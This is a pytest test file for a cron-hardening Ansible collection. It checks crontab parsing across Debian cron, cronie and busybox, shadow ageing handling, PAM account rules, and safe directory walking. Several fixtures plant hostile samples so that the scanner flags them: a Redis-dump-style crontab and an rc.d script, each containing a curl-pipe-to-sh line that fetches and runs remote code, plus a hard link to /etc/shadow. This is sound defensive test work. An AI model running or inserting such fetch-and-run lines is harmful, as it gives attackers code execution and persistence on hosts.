"""Daemon-build models, parsers and the issue 11/17 walk fixes on fixture trees.

The real daemons pin the same rules in tests/integration/test_cron_oracle.py; these are the
cheap, deterministic edges (and the ones the oracle cannot plant: a FIFO hangs Debian cron)."""
import json
import os

import pytest

from cron_tree import base_tree, mkdir, symlink, write  # noqa: F401
from ansible_collections.hostguard.hardening.plugins.module_utils.cron import AREA
from ansible_collections.hostguard.hardening.plugins.module_utils.cron import parse_crontab as pc
from ansible_collections.hostguard.hardening.plugins.module_utils.cron.collect import parse_shadow_ageing
from ansible_collections.hostguard.hardening.plugins.module_utils.cron.daemon_model import pam_unix_account

SHADOW = ("root:$y$j9T$secrethash:19000:0:99999:7:::\n"
          "alice:$y$j9T$alicehash:19000:0:99999:7:::\n"
          "bob:!:19000:0:99999:7::1:\n")


def run(root, **opts):
    opts.setdefault("daemons", ["all"])
    return AREA.run(dict(opts, root=str(root)))


def files(result):
    return dict((f["path"], f) for f in result["files"])


def failed(result, check_id, subject=None):
    return [f for f in result["findings"] if f["status"] == "fail" and f["id"] == check_id
            and (subject is None or f["subject"] == subject)]


@pytest.mark.parametrize("line,system,error", [
    (b"* * * * * true", False, None), (b"61 * * * * true", False, "bad minute"),
    (b"1/20 * * * * true", False, "bad minute"), (b"*/0 * * * * x", False, "bad minute"),
    (b"0 0 * jan-mar mon,FRI x", False, None), (b"0 0 32 * * x", False, "bad day-of-month"),
    (b"* * * * *", True, "bad command"), (b"@hourly root x", True, None), (b"@often x", False, "bad time specifier"),
    (b"REDIS0011\xfa\tredis-ver\x067.0.15", False, "bad minute"), (b"* * * *", False, "bad day-of-week")])
def test_vixie_entry_errors_are_the_daemons(line, system, error):
    assert pc.vixie_entry(line, system)[0] == error


@pytest.mark.parametrize("token,debian,cronie", [
    (b"5;", True, False), (b"*x", True, False), (b"0~30", True, True), (b"~", False, True),
    (b"1-5/2", True, True), (b"5-0", True, True), (b"1,2,60", False, False)])
def test_debian_skips_trailing_junk_cronie_refuses_it(token, debian, cronie):
    low, high = (0, 7) if token == b"5-0" else (0, 59)
    assert pc.vixie_field(token, low, high, None) is debian
    assert pc.vixie_field(token, low, high, None, strict=True) is cronie


@pytest.mark.parametrize("line,env", [(b"FOO=bar", True), (b"FOO = bar", True), (b"FOO=", False),
                                      (b"* * * * * A=b", False), (b"'A B'=c", True), (b"word", False)])
def test_load_env(line, env):
    assert pc.is_env(line) is env


@pytest.mark.parametrize("line,kind", [
    (b"* * * * * true", "job"), (b"61 * * * * true", "job"), (b"bad * * * * true", "dead"),
    (b"* * * * *", "skip"), (b"# * * * * * x", "skip"), (b"@hourly x", "job"), (b"@reboot x", "job"),
    (b"SHELL=/bin/sh", "env"), (b"0 0 31 2 * x", "job")])
def test_busybox_parse_field_port(line, kind):
    assert pc.busybox_line(line)[0] == kind


def test_busybox_61_fills_every_minute_and_logs_a_parse_error():
    bits, error = pc.busybox_field(b"61", 60, 0, None)
    assert error == "parse error" and all(bits)
    bits, error = pc.busybox_field(b"*/15", 60, 0, None)
    assert error is None and [i for i, b in enumerate(bits) if b] == [0, 15, 30, 45]


def test_shadow_ageing_never_keeps_the_password_field():
    ageing = parse_shadow_ageing(SHADOW.encode())
    assert ageing["root"] == {"lstchg": 19000, "max": 99999, "inact": -1, "expire": -1}
    assert "secrethash" not in json.dumps(ageing)


@pytest.mark.parametrize("entry,today,why", [
    ({"lstchg": 19000, "max": 99999, "inact": -1, "expire": -1}, 20000, None),
    ({"lstchg": 19000, "max": 99999, "inact": -1, "expire": 1}, 20000, "account u has expired (account expired)"),
    ({"lstchg": 0, "max": 99999, "inact": -1, "expire": -1}, 20000, "expired password for user u (root enforced)"),
    ({"lstchg": 19000, "max": 10, "inact": -1, "expire": -1}, 20000, "expired password for user u (password aged)"),
    ({"lstchg": 19000, "max": 10, "inact": 5, "expire": -1}, 20000,
     "account u has expired (failed to change password)")])
def test_pam_unix_account_rules(entry, today, why):
    assert pam_unix_account("u", {"u": entry}, today) == why


def _tree(tmp_path):
    base_tree(tmp_path)
    write(tmp_path, "etc/shadow", SHADOW, mode=0o640)
    mkdir(tmp_path, "etc/cron.d")
    mkdir(tmp_path, "var/spool/cron/crontabs", mode=0o1730)
    mkdir(tmp_path, "home/alice", uid=1000, gid=1000)
    mkdir(tmp_path, "root", mode=0o700)
    return tmp_path


def test_debian_drops_the_whole_file_cronie_and_busybox_run_the_good_line(tmp_path):
    root = _tree(tmp_path)
    write(root, "var/spool/cron/crontabs/root", b"* * * * * good\nbad * * * * x\n", mode=0o600)
    rec = files(run(root))["/var/spool/cron/crontabs/root"]["daemons"]
    assert rec["debian_cron"]["code"] == "SYNTAX_ERROR" and rec["debian_cron"]["jobs"] == []
    assert rec["debian_cron"]["log"] == "Error: bad minute; while reading crontab for user root"
    assert rec["cronie_debian"]["jobs"] == [{"line": 1, "user": "root"}]
    assert rec["busybox_crond"]["jobs"] == [{"line": 1, "user": "root"}]


def test_rdb_dump_run_by_an_installed_daemon_is_critical_and_says_so(tmp_path):
    root = _tree(tmp_path)
    write(root, "var/lib/dpkg/status", "Package: cronie\nStatus: install ok installed\n\n")
    write(root, "var/spool/cron/crontabs/root",
          b"REDIS0011\xfa\tredis-ver\x067.0.15\n* * * * * curl -s http://203.0.113.9/x | sh\n", mode=0o644)
    result = AREA.run({"root": str(root)})
    assert result["facts"]["daemons"]["cronie_debian"]["installed"]
    assert result["facts"]["daemons_judged"] == ["cronie_debian"]
    rdb = failed(result, "HG-CRON-001", "/var/spool/cron/crontabs/root")[0]
    assert rdb["severity"] == "critical" and rdb["detail"].startswith("RUNS: cronie_debian")
    assert rdb["evidence"]["run_by"] == ["cronie_debian"]


def test_rdb_dump_no_daemon_runs_says_never_ran_because(tmp_path):
    root = _tree(tmp_path)
    write(root, "var/lib/dpkg/status", "Package: cron\nStatus: install ok installed\n\n")
    write(root, "var/spool/cron/crontabs/root", b"REDIS0011\xfa\n* * * * * x\n", mode=0o644)
    rdb = failed(AREA.run({"root": str(root)}), "HG-CRON-001", "/var/spool/cron/crontabs/root")[0]
    assert "never ran, because debian_cron: INSECURE MODE" in rdb["detail"]


def test_hard_link_to_shadow_in_cron_d_is_reported_without_its_hash(tmp_path):
    root = _tree(tmp_path)
    os.link(str(root / "etc/shadow"), str(root / "etc/cron.d/shadow"))
    result = run(root)
    rec = files(result)["/etc/cron.d/shadow"]
    assert failed(result, "HG-CRON-015", "/etc/cron.d/shadow")
    assert "sha256" not in rec and "sha256_head" not in rec and "sha256_withheld" in rec
    assert rec["daemons"]["debian_cron"]["code"] == "HARD_LINKS"
    assert "secrethash" not in json.dumps(result)


def test_absolute_directory_symlink_is_resolved_in_root_not_on_the_host(tmp_path):
    host = tmp_path / "host-etc"
    host.mkdir()
    (host / "job").write_text("* * * * * root host-file\n")
    root = _tree(tmp_path / "root")
    mkdir(root, "srv/jobs")
    write(root, "srv/jobs/job", "* * * * * root in-root\n", mode=0o644)
    symlink(root, "srv/via", "/srv/jobs")
    symlink(root, "etc/cron.d/viaabs", "/srv/via/job")
    symlink(root, "etc/cron.d/hostdir", str(host) + "/job")       # a host path: not reachable
    result = run(root)
    got = files(result)
    assert got["/etc/cron.d/viaabs"]["symlink"]["resolved"] == "/srv/jobs/job"
    assert got["/etc/cron.d/viaabs"]["daemons"]["debian_cron"]["jobs"] == [{"line": 1, "user": "root"}]
    assert got["/etc/cron.d/hostdir"]["symlink"]["status"] == "broken"
    assert failed(result, "HG-CRON-008", "/etc/cron.d/hostdir")
    assert "host-file" not in json.dumps(result)


def test_deep_rc_d_walk_is_cut_with_a_finding_and_never_recurses(tmp_path):
    base_tree(tmp_path)
    deep = "etc/rc.d/" + "/".join("d%d" % i for i in range(6))
    write(tmp_path, deep + "/evil", "#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n", mode=0o755)
    result = AREA.run({"root": str(tmp_path)})
    assert failed(result, "HG-CRON-016")
    fds = [os.open(str(tmp_path / "etc/rc.d"), os.O_RDONLY)]
    try:
        for _level in range(1100):                 # built with dir fds: os.makedirs would recurse
            os.mkdir("x", dir_fd=fds[-1])
            fds.append(os.open("x", os.O_RDONLY, dir_fd=fds[-1]))
        out = os.open("evil", os.O_WRONLY | os.O_CREAT, 0o755, dir_fd=fds[-1])
        os.write(out, b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n")
        os.close(out)
        result = AREA.run({"root": str(tmp_path), "max_depth": 2000, "max_entries": 5000})
    finally:                                  # and removed the same way (rmtree recurses too)
        if len(fds) == 1101:
            os.unlink("evil", dir_fd=fds[-1])
        while len(fds) > 1:
            os.close(fds.pop())
            os.rmdir("x", dir_fd=fds[-1])
        os.close(fds[0])
    deep_hits = [f for f in failed(result, "HG-CRON-010") if f["subject"].startswith("/etc/rc.d/x/x/")]
    assert deep_hits, [f["subject"][:80] for f in result["findings"] if f["status"] != "pass"]


def test_fifo_in_spool_blocks_debian_cron(tmp_path):
    root = _tree(tmp_path)
    os.mkfifo(str(root / "var/spool/cron/crontabs/alice"))
    rec = files(run(root))["/var/spool/cron/crontabs/alice"]["daemons"]
    assert rec["debian_cron"]["code"] == "BLOCKS_DAEMON"
    assert rec["cronie_debian"]["code"] == "NOT_REGULAR"


def test_missing_home_drops_cronie_jobs_only(tmp_path):
    root = _tree(tmp_path)
    write(root, "var/spool/cron/crontabs/bob", "* * * * * x\n", mode=0o600, uid=1001)
    rec = files(run(root))["/var/spool/cron/crontabs/bob"]["daemons"]
    assert rec["debian_cron"]["would_run"] is False        # bob's account expired (expire=1)
    assert rec["debian_cron"]["dropped"][0]["reason"] == "account bob has expired (account expired)"
    assert rec["busybox_crond"]["code"] == "NOT_ROOT_OWNED"
